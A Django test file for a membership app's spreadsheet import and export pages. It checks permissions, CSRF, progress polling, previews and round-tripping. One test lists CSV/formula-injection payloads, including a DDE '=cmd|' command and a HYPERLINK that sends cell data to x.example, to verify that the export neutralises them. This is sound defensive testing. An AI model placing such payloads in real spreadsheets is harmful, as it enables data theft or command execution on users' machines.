"""The import and export pages: permission matrix, progress by htmx, template and export files.

Officer of the unit and of the level above: allowed. Officer of a sibling unit: 404. Read-only
role: reads (template, export, a job) but 403 on upload and confirm. Anonymous: login page.
Wrong method: 405.
"""

from __future__ import annotations

import datetime
import io
import shutil
import tempfile
from dataclasses import dataclass

from django.test import Client, TestCase, override_settings
from django.urls import reverse
from openpyxl import load_workbook
from tests.imports.workbooks import HEADERS, people, person, upload, workbook_bytes

from daihoi.accounts.models import User
from daihoi.imports import messages, services
from daihoi.imports.models import ImportJob, ImportStatus
from daihoi.units.models import Member
from daihoi.units.services import MemberData, create_member
from daihoi.units.testing import build_world

MEDIA = tempfile.mkdtemp(prefix="daihoi-test-media-")


def tearDownModule() -> None:
    shutil.rmtree(MEDIA, ignore_errors=True)


READ, WRITE = "read", "write"


@dataclass(frozen=True)
class Page:
    name: str
    level: str
    methods: tuple[str, ...]
    by: str  # "unit" or "job"


PAGES = [
    Page("import_upload", WRITE, ("GET", "POST"), "unit"),
    Page("import_template", READ, ("GET",), "unit"),
    Page("member_export", READ, ("GET",), "unit"),
    Page("import_job", READ, ("GET",), "job"),
    Page("import_confirm", WRITE, ("POST",), "job"),
]
ALLOWED = {"GET": 200, "POST": (200, 302)}


@override_settings(MEDIA_ROOT=MEDIA)
class PermissionMatrixTests(TestCase):
    @classmethod
    def setUpTestData(cls) -> None:
        cls.w = build_world()
        cls.job = ImportJob.objects.create(
            unit=cls.w.section, user=cls.w.officer, original_name="a.xlsx", status="previewed"
        )
        cls.sibling_job = ImportJob.objects.create(
            unit=cls.w.sibling, user=cls.w.sibling_officer, original_name="b.xlsx"
        )

    def url(self, page: Page, *, other: bool = False) -> str:
        if page.by == "unit":
            kwargs = {"unit_id": (self.w.sibling if other else self.w.section).pk}
        else:
            kwargs = {"job_id": (self.sibling_job if other else self.job).pk}
        return reverse(page.name, kwargs=kwargs)

    def status(self, user: User | None, method: str, url: str) -> int:
        self.client.logout()
        if user is not None:
            self.client.force_login(user)
        return self.client.generic(method, url).status_code

    def assert_allowed(self, user: User, page: Page, *, other: bool = False) -> None:
        for method in page.methods:
            code = self.status(user, method, self.url(page, other=other))
            expected = ALLOWED[method]
            assert code in (expected if isinstance(expected, tuple) else (expected,)), (
                page.name,
                method,
                code,
            )

    def test_every_page_is_covered(self) -> None:
        from daihoi.imports.urls import urlpatterns

        assert {p.name for p in urlpatterns} == {page.name for page in PAGES}

    def test_officer_of_the_unit_may_use_every_page(self) -> None:
        for page in PAGES:
            with self.subTest(page.name):
                self.assert_allowed(self.w.officer, page)

    def test_officer_of_the_level_above_may_use_every_page(self) -> None:
        for page in PAGES:
            with self.subTest(page.name):
                self.assert_allowed(self.w.upper, page)

    def test_officer_of_a_sibling_unit_gets_404(self) -> None:
        for page in PAGES:
            with self.subTest(page.name):
                for method in page.methods:
                    assert self.status(self.w.sibling_officer, method, self.url(page)) == 404

    def test_the_sibling_officer_uses_their_own_unit(self) -> None:
        for page in PAGES:
            with self.subTest(page.name):
                self.assert_allowed(self.w.sibling_officer, page, other=True)

    def test_read_only_user_reads_but_gets_403_on_writing(self) -> None:
        for page in PAGES:
            with self.subTest(page.name):
                for method in page.methods:
                    expected = 200 if page.level == READ else 403
                    assert self.status(self.w.viewer, method, self.url(page)) == expected

    def test_anonymous_is_sent_to_the_login_page(self) -> None:
        for page in PAGES:
            with self.subTest(page.name):
                url = self.url(page)
                for method in page.methods:
                    response = self.client.generic(method, url)
                    self.assertRedirects(
                        response, f"{reverse('login')}?next={url}", fetch_redirect_response=False
                    )

    def test_wrong_methods_get_405(self) -> None:
        self.client.force_login(self.w.upper)
        for page in PAGES:
            with self.subTest(page.name):
                for method in {"GET", "POST", "PUT", "DELETE"} - set(page.methods):
                    assert self.client.generic(method, self.url(page)).status_code == 405

    def test_unknown_jobs_are_404(self) -> None:
        self.client.force_login(self.w.superuser)
        url = reverse("import_job", kwargs={"job_id": 999999})
        assert self.client.get(url).status_code == 404

    def test_the_upload_checks_the_csrf_token(self) -> None:
        client = Client(enforce_csrf_checks=True)
        client.force_login(self.w.officer)
        url = reverse("import_upload", kwargs={"unit_id": self.w.unit.pk})
        data = workbook_bytes([person()])
        assert client.post(url, {"file": upload(data)}).status_code == 403
        token = client.get(url).context["csrf_token"]
        response = client.post(url, {"file": upload(data), "csrfmiddlewaretoken": str(token)})
        assert response.status_code == 302


@override_settings(MEDIA_ROOT=MEDIA)
class JobPageTests(TestCase):
    @classmethod
    def setUpTestData(cls) -> None:
        cls.w = build_world()

    def setUp(self) -> None:
        self.client.force_login(self.w.officer)

    def running_job(self) -> ImportJob:
        job = ImportJob.objects.create(
            unit=self.w.unit,
            user=self.w.officer,
            original_name="lon.xlsx",
            status=ImportStatus.RUNNING,
            progress_total=120_000,
        )
        services.ProgressFile(job.pk)(30_000, 120_000)
        return job

    def test_a_running_job_shows_a_progress_bar_polled_by_htmx_or_refreshed(self) -> None:
        job = self.running_job()
        url = reverse("import_job", kwargs={"job_id": job.pk})
        page = self.client.get(url)
        self.assertContains(page, '<noscript><meta http-equiv="refresh" content="2"></noscript>')
        self.assertContains(page, 'hx-trigger="every 1s"')
        self.assertContains(page, '<progress max="120000" value="30000">')
        self.assertContains(page, "30.000 / 120.000 dòng (25%)")
        partial = self.client.get(url, headers={"HX-Request": "true"})
        assert partial.content.decode().lstrip().startswith('<section id="progress"')
        assert "<html" not in partial.content.decode()
        assert "HX-Request" in partial["Vary"]

    def test_the_poll_that_sees_the_end_reloads_the_page(self) -> None:
        job = self.running_job()
        ImportJob.objects.filter(pk=job.pk).update(status=ImportStatus.DONE, imported_count=3)
        url = reverse("import_job", kwargs={"job_id": job.pk})
        response = self.client.get(url, headers={"HX-Request": "true"})
        assert (response.status_code, response["HX-Refresh"]) == (204, "true")
        self.assertContains(self.client.get(url), "Đã nhập 3 đoàn viên vào")

    def test_many_problems_are_shown_page_by_page(self) -> None:
        rows = people(150, **{"Giới tính": "?"})
        response = self.client.post(
            reverse("import_upload", kwargs={"unit_id": self.w.unit.pk}),
            {"file": upload(workbook_bytes(rows))},
        )
        first = self.client.get(response["Location"])
        self.assertContains(first, "Trang 1/2")
        self.assertContains(first, '<td class="num">101</td>')
        self.assertNotContains(first, '<td class="num">102</td>')
        second = self.client.get(response["Location"] + "?trang=2")
        self.assertContains(second, '<td class="num">151</td>')
        self.assertContains(first, "150 lỗi, 0 cảnh báo.")

    def test_a_good_file_is_previewed_then_imported_from_the_pages(self) -> None:
        url = reverse("import_upload", kwargs={"unit_id": self.w.unit.pk})
        response = self.client.post(url, {"file": upload(workbook_bytes(people(4)))})
        preview = self.client.get(response["Location"])
        self.assertContains(preview, "Sẵn sàng nhập 4 đoàn viên")
        self.assertNotContains(preview, "disabled")
        job = ImportJob.objects.get()
        done = self.client.post(reverse("import_confirm", kwargs={"job_id": job.pk}), follow=True)
        self.assertContains(done, messages.DONE.format(count="4", unit=self.w.unit.name))
        assert Member.objects.filter(member_number__startswith="T-").count() == 4
        recent = self.client.get(url)  # the upload page lists the recent imports
        self.assertContains(recent, reverse("import_job", kwargs={"job_id": job.pk}))
        self.assertContains(recent, "Đã nhập xong")

    def test_the_preview_lists_the_values_normalized_with_rows_column_and_what_is_stored(
        self,
    ) -> None:
        rows = people(14, **{"Giới tính": "nu"})
        rows[0].update({"Dân tộc": "Tay", "Ngày sinh": "1990-05-12"})
        url = reverse("import_upload", kwargs={"unit_id": self.w.unit.pk})
        preview = self.client.get(
            self.client.post(url, {"file": upload(workbook_bytes(rows))})["Location"]
        )
        self.assertContains(preview, "Sẵn sàng nhập 14 đoàn viên")
        self.assertContains(preview, "Giá trị được ghi theo cách viết chuẩn")
        self.assertContains(
            preview,
            '<tr><td>Giới tính <span class="muted">(cột C)</span></td><td>“nu”</td>'
            "<td>“Nữ”</td><td>2, 3, 4, 5, 6, 7, 8, 9, 10, 11 và 4 dòng khác</td></tr>",
            html=True,
        )
        self.assertContains(
            preview,
            '<tr><td>Ngày sinh <span class="muted">(cột D)</span></td><td>“1990-05-12”</td>'
            "<td>“12/05/1990”</td><td>2</td></tr>",
            html=True,
        )
        self.assertContains(
            preview,
            '<tr><td>Dân tộc <span class="muted">(cột E)</span></td><td>“Tay”</td>'
            "<td>“Tày”</td><td>2</td></tr>",
            html=True,
        )
        done = self.client.post(
            reverse("import_confirm", kwargs={"job_id": ImportJob.objects.get().pk}), follow=True
        )
        self.assertContains(done, messages.DONE.format(count="14", unit=self.w.unit.name))
        stored = Member.objects.get(member_number="T-00001")
        assert (stored.gender, stored.ethnicity, stored.birth_date) == (
            "nu",
            "Tày",
            datetime.date(1990, 5, 12),
        )

    def test_twins_told_apart_by_numbers_are_confirmed_with_a_checkbox_in_the_preview(
        self,
    ) -> None:
        rows = [person(**{"Số thẻ đoàn viên": "CT-001"}), person(**{"Số thẻ đoàn viên": "CT-002"})]
        url = reverse("import_upload", kwargs={"unit_id": self.w.unit.pk})
        preview = self.client.get(
            self.client.post(url, {"file": upload(workbook_bytes(rows))})["Location"]
        )
        self.assertContains(preview, '<input type="checkbox" name="twins" required>')
        self.assertContains(preview, "Tôi đã xem 1 dòng trùng họ tên và ngày sinh")
        job = ImportJob.objects.get()
        confirm = reverse("import_confirm", kwargs={"job_id": job.pk})
        refused = self.client.post(confirm, follow=True)
        self.assertContains(refused, messages.TWINS_NOT_CONFIRMED)
        assert not Member.objects.filter(member_number__startswith="CT-").exists()
        done = self.client.post(confirm, {"twins": "on"}, follow=True)
        self.assertContains(done, messages.DONE.format(count="2", unit=self.w.unit.name))

    def test_the_member_list_links_to_import_and_export(self) -> None:
        page = self.client.get(reverse("member_list", kwargs={"unit_id": self.w.unit.pk}))
        self.assertContains(page, reverse("import_upload", kwargs={"unit_id": self.w.unit.pk}))
        self.assertContains(page, reverse("member_export", kwargs={"unit_id": self.w.unit.pk}))
        self.client.force_login(self.w.viewer)
        page = self.client.get(reverse("member_list", kwargs={"unit_id": self.w.unit.pk}))
        self.assertNotContains(page, reverse("import_upload", kwargs={"unit_id": self.w.unit.pk}))


@override_settings(MEDIA_ROOT=MEDIA)
class SpreadsheetTests(TestCase):
    @classmethod
    def setUpTestData(cls) -> None:
        cls.w = build_world()

    def setUp(self) -> None:
        self.client.force_login(self.w.officer)

    def download(self, name: str, query: str = "") -> bytes:
        response = self.client.get(reverse(name, kwargs={"unit_id": self.w.unit.pk}) + query)
        assert response.status_code == 200
        assert response["Content-Type"].startswith("application/vnd.openxmlformats")
        assert "attachment" in response["Content-Disposition"]
        if hasattr(response, "streaming_content"):
            return b"".join(response.streaming_content)
        return response.content

    def test_the_template_has_the_headers_the_guide_and_the_choices(self) -> None:
        book = load_workbook(io.BytesIO(self.download("import_template")))
        assert book.sheetnames == ["Đoàn viên", "Hướng dẫn", "Đơn vị"]
        sheet = book["Đoàn viên"]
        assert [c.value for c in sheet[1]] == HEADERS
        assert sheet.freeze_panes == "A2"
        assert {c.font.name for c in sheet[1]} == {"Times New Roman"}
        assert sheet.column_dimensions["B"].width == 28
        lists = {
            str(v.sqref).split(":")[0][0]: v.formula1 for v in sheet.data_validations.dataValidation
        }
        assert lists["C"] == '"Nam,Nữ"'  # Giới tính
        assert lists["G"] == '"Có,Không"'  # Đảng viên
        assert "Đại học" in lists["I"]  # Trình độ học vấn
        assert lists["E"].startswith("'Hướng dẫn'!$E$")  # the 54 ethnic groups
        guide = [row[0] for row in book["Hướng dẫn"].iter_rows(values_only=True) if row[0]]
        assert "Giới tính" in guide and "Mã đơn vị" in guide
        units = [row[0] for row in book["Đơn vị"].iter_rows(min_row=2, values_only=True)]
        assert units == [self.w.unit.code, self.w.section.code]  # not the sibling

    def test_the_empty_template_imports_as_a_header_without_rows(self) -> None:
        data = self.download("import_template")
        response = self.client.post(
            reverse("import_upload", kwargs={"unit_id": self.w.unit.pk}), {"file": upload(data)}
        )
        self.assertContains(response, messages.NO_ROWS.format(sheet="Đoàn viên"))

    def test_the_export_lists_the_subtree_in_vietnamese_order_with_real_dates(self) -> None:
        for name, unit in (("Trần Văn Bình", self.w.unit), ("Lê Thị Ánh", self.w.section)):
            create_member(
                unit=unit,
                data=MemberData(full_name=name, gender="nu", birth_date=datetime.date(1990, 1, 2)),
            )
        book = load_workbook(io.BytesIO(self.download("member_export")))
        sheet = book["Đoàn viên"]
        rows = list(sheet.iter_rows(values_only=True))
        assert list(rows[0]) == [*HEADERS, "Tên đơn vị"]
        assert [r[1] for r in rows[1:]] == ["Lê Thị Ánh", "Trần Văn Bình", "Lường Danh Vọng"]
        assert rows[1][15:] == (self.w.section.code, self.w.section.name)
        born = sheet["D2"]
        assert (born.value, born.number_format) == (datetime.datetime(1990, 1, 2), "dd/mm/yyyy")
        assert sheet.freeze_panes == "A2"
        assert sheet["B2"].font.name == "Times New Roman"

    def test_the_export_writes_every_user_value_as_text_never_a_formula(self) -> None:
        """Issue 9: =HYPERLINK(...), =cmd|... and =1+1 went out as live formulas."""
        hostile = [
            '=HYPERLINK("http://x.example/?"&A1,"Bấm")',
            "=cmd|' /C calc'!A0",
            "=1+1",
            "+1+1",
            "-2+3",
            "@SUM(A1)",
        ]
        member = Member.objects.get(member_number="KT-0001")
        for i, value in enumerate(hostile):
            # As such values may already be in the database: written past the services.
            Member.objects.create(
                unit=member.unit,
                full_name=value,
                gender=member.gender,
                position=value,
                member_number=f"F-{i}",
                workplace="\x01Phòng\x1f 1",  # PostgreSQL refuses NUL itself
            )
        book = load_workbook(io.BytesIO(self.download("member_export")))
        sheet = book.active
        assert sheet is not None
        cells = {row[1].value: row for row in sheet.iter_rows(min_row=2)}
        for value in hostile:
            name, position = cells[value][1], cells[value][10]
            assert (name.data_type, name.value, name.quotePrefix) == ("s", value, True)
            assert (position.data_type, position.value) == ("s", value)
        assert cells["=1+1"][11].value == "Phòng 1"  # control characters left out, not a 500

    def test_the_export_follows_the_lists_search(self) -> None:
        book = load_workbook(io.BytesIO(self.download("member_export", "?q=vong")))
        assert [r[1] for r in book.active.iter_rows(min_row=2, values_only=True)] == [  # type: ignore[union-attr]
            "Lường Danh Vọng"
        ]

    def test_export_then_import_into_the_emptied_unit_gives_the_same_members(self) -> None:
        fields = [
            "unit_id",
            *(f for f in vars(MemberData.of(self.w.member)) if f != "status"),
            "ho",
            "ten_dem",
            "ten",
            "name_key",
            "search_text",
        ]
        for i, row in enumerate(people(25)):
            create_member(
                unit=self.w.section if i % 3 else self.w.unit,
                data=MemberData(
                    full_name=row["Họ và tên"],
                    gender="nu" if i % 2 else "nam",
                    birth_date=row["Ngày sinh"],
                    ethnicity=("Kinh", "Thái", "Mông", "Ê Đê")[i % 4],
                    religion="Phật giáo" if i % 5 == 0 else "",
                    is_party_member=i % 4 == 0,
                    party_joined_on=datetime.date(2010, 5, 19) if i % 4 == 0 else None,
                    education=("dai_hoc", "thpt", "", "thac_si")[i % 4],
                    professional_level="Kỹ sư" if i % 2 else "",
                    position="Chuyên viên",
                    workplace="Phòng Kế hoạch",
                    union_joined_on=datetime.date(2012, 1, 1 + i),
                    member_number=row["Số thẻ đoàn viên"],
                    phone=f"09{i:08d}" if i % 2 else "",
                ),
            )
        subtree = Member.objects.in_subtree(self.w.unit)
        before = sorted(subtree.values_list(*fields))
        exported = self.download("member_export")
        subtree.delete()
        response = self.client.post(
            reverse("import_upload", kwargs={"unit_id": self.w.unit.pk}),
            {"file": upload(exported)},
        )
        job = ImportJob.objects.get()
        assert (job.rows_with_errors, job.problems) == (0, [])
        assert job.notes == [messages.IGNORED_COLUMNS.format(columns="“Tên đơn vị”")]
        self.client.post(reverse("import_confirm", kwargs={"job_id": job.pk}))
        job.refresh_from_db()
        assert job.status == ImportStatus.DONE, job.error_message
        assert sorted(subtree.values_list(*fields)) == before
        assert response.status_code == 302
